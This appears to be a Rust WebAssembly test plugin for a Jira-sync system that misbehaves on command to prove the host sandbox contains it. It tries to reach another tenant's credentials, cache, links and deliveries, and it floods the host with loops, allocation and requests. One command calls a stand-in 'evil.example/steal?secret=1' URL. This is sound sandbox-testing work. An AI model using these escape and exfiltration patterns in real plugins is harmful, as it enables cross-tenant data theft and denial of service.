//! A guest that misbehaves on command, to prove the sandbox contains it. The webhook body names
//! the misdeed; most commands first look up installation `jira:1c4` (the call's own, in the
//! tests), so that its site is reachable; the `escape-*` commands reach for installation
//! `jira:other`'s secret, groups, deliveries, cache entries and site.

#[cfg(target_arch = "wasm32")]
mod guest {
    wit_bindgen::generate!({ path: "../../wit", world: "plugin" });

    use exports::jira_sync::plugin::mapping_check::{self, CheckError, ProjectReport};
    use exports::jira_sync::plugin::outbound::{self, AssigneeOutcome, StatusOutcome};
    use exports::jira_sync::plugin::webhook::{
        self, Acceptance, Job, JobOutcome, Request, Response,
    };
    use jira_sync::plugin::types::ResolutionStrategy;
    use jira_sync::plugin::{
        cache, clock, deliveries, group_assignment, group_status, http, installations, links, log,
    };

    struct Hostile;

    fn answer(status: u16, body: Vec<u8>) -> Response {
        Response {
            status,
            headers: Vec::new(),
            body,
        }
    }

    fn get(url: &str) -> Result<http::Response, http::Error> {
        http::send(&http::Request {
            method: http::Method::Get,
            url: url.to_owned(),
            headers: Vec::new(),
            body: None,
        })
    }

    fn spin() -> ! {
        let mut n = 0u64;
        loop {
            n = std::hint::black_box(n.wrapping_add(1));
        }
    }

    /// The other tenant's data, which the sandbox must keep out of reach.
    fn escape(command: &str) -> Option<String> {
        Some(match command {
            "cache-set" => {
                cache::set("secret-key", "other's value", 600);
                "set".to_owned()
            }
            "escape-cache" => format!("cache: {:?}", cache::get("secret-key")),
            "escape-secret" => format!(
                "secret: {:?}",
                installations::get_by_client_key("jira:other").map(|i| i.credentials)
            ),
            "escape-groups" => {
                let resolved =
                    group_status::resolve("jira:other", "OTHER-1", ResolutionStrategy::Resolve);
                let assigned = group_assignment::assign("jira:other", "OTHER-1", "ada@example.com");
                format!("groups: {resolved:?} {assigned:?}")
            }
            "escape-links" => {
                let removed = links::remove("jira:other", "OTHER-1");
                let renamed = links::rename("jira:other", "OTHER-1", "MINE-1");
                format!("links: {removed} {renamed}")
            }
            "escape-deliveries" => {
                let claim = deliveries::claim("jira:other", "d-other");
                deliveries::mark_handled("jira:other", "d-other");
                let field = deliveries::Field::Status;
                deliveries::set_last_applied("jira:other", "OTHER-1", field, 1);
                format!(
                    "deliveries: {claim:?} {:?}",
                    deliveries::last_applied("jira:other", "OTHER-1", field)
                )
            }
            "escape-site" => format!("site: {:?}", get("https://other.example/rest/api/2/status")),
            _ => return None,
        })
    }

    impl webhook::Guest for Hostile {
        fn handle(request: Request) -> Response {
            if let Some(said) = escape(&String::from_utf8_lossy(&request.body)) {
                return answer(200, said.into_bytes());
            }
            let Some(installation) = installations::get_by_client_key("jira:1c4") else {
                return answer(500, b"no installation jira:1c4".to_vec());
            };
            match String::from_utf8_lossy(&request.body).as_ref() {
                "loop" => spin(),
                "alloc" => {
                    let mut hoard: Vec<Vec<u8>> = Vec::new();
                    loop {
                        hoard.push(std::hint::black_box(vec![7u8; 1 << 20]));
                    }
                }
                "panic" => panic!("the hostile guest panics on purpose"),
                "sleep" => {
                    clock::sleep(3600);
                    answer(200, b"slept an hour".to_vec())
                }
                "http-foreign" => match get("https://evil.example/steal?secret=1") {
                    Ok(r) => answer(
                        200,
                        format!("reached evil.example: {}", r.status).into_bytes(),
                    ),
                    Err(e) => answer(200, format!("refused: {e:?}").into_bytes()),
                },
                "http-flood" => {
                    let url = format!("{}/rest/api/2/status", installation.base_url);
                    for _ in 0..10_000 {
                        let _ = get(&url);
                    }
                    answer(200, Vec::new())
                }
                "log-flood" => {
                    for i in 0..1_000_000u32 {
                        log::log(log::Level::Info, "flood", &[("i".into(), i.to_string())]);
                    }
                    answer(200, Vec::new())
                }
                "huge-response" => answer(200, vec![b'x'; 1 << 20]),
                "assign-then-loop" => {
                    group_assignment::assign("jira:1c4", "APP-123", "ada@example.com");
                    spin()
                }
                "assign" => {
                    group_assignment::assign("jira:1c4", "APP-123", "ada@example.com");
                    answer(200, Vec::new())
                }
                other => answer(400, format!("unknown command {other}").into_bytes()),
            }
        }

        /// Queues every request without verifying it, as work for the installation its
        /// `X-Tenant` header names (default `jira:1c4`), except `foreign-job`, which it queues
        /// for `jira:other` whatever the header says.
        fn accept(request: Request) -> Acceptance {
            let header = |name: &str| {
                request
                    .headers
                    .iter()
                    .find(|(k, _)| k.eq_ignore_ascii_case(name))
                    .map(|(_, v)| v.clone())
            };
            let client_key = if request.body == b"foreign-job" {
                "jira:other".to_owned()
            } else {
                header("x-tenant").unwrap_or_else(|| "jira:1c4".to_owned())
            };
            Acceptance::Queued(Job {
                client_key,
                delivery_id: header("x-atlassian-webhook-identifier"),
                body: request.body,
            })
        }

        /// Runs the job's command as `handle` does.
        fn process(job: Job) -> JobOutcome {
            let response = Self::handle(Request {
                method: "POST".into(),
                path: "/".into(),
                query: String::new(),
                headers: Vec::new(),
                body: job.body,
            });
            if response.status < 300 {
                JobOutcome::Done
            } else {
                JobOutcome::Failed(String::from_utf8_lossy(&response.body).into_owned())
            }
        }
    }

    impl outbound::Guest for Hostile {
        fn sync_status(_: outbound::StatusRequest) -> StatusOutcome {
            spin()
        }

        fn sync_assignee(_: outbound::AssigneeRequest) -> AssigneeOutcome {
            AssigneeOutcome::Disabled
        }
    }

    impl mapping_check::Guest for Hostile {
        fn check(_: String) -> Result<Vec<ProjectReport>, CheckError> {
            spin()
        }
    }

    export!(Hostile);
}
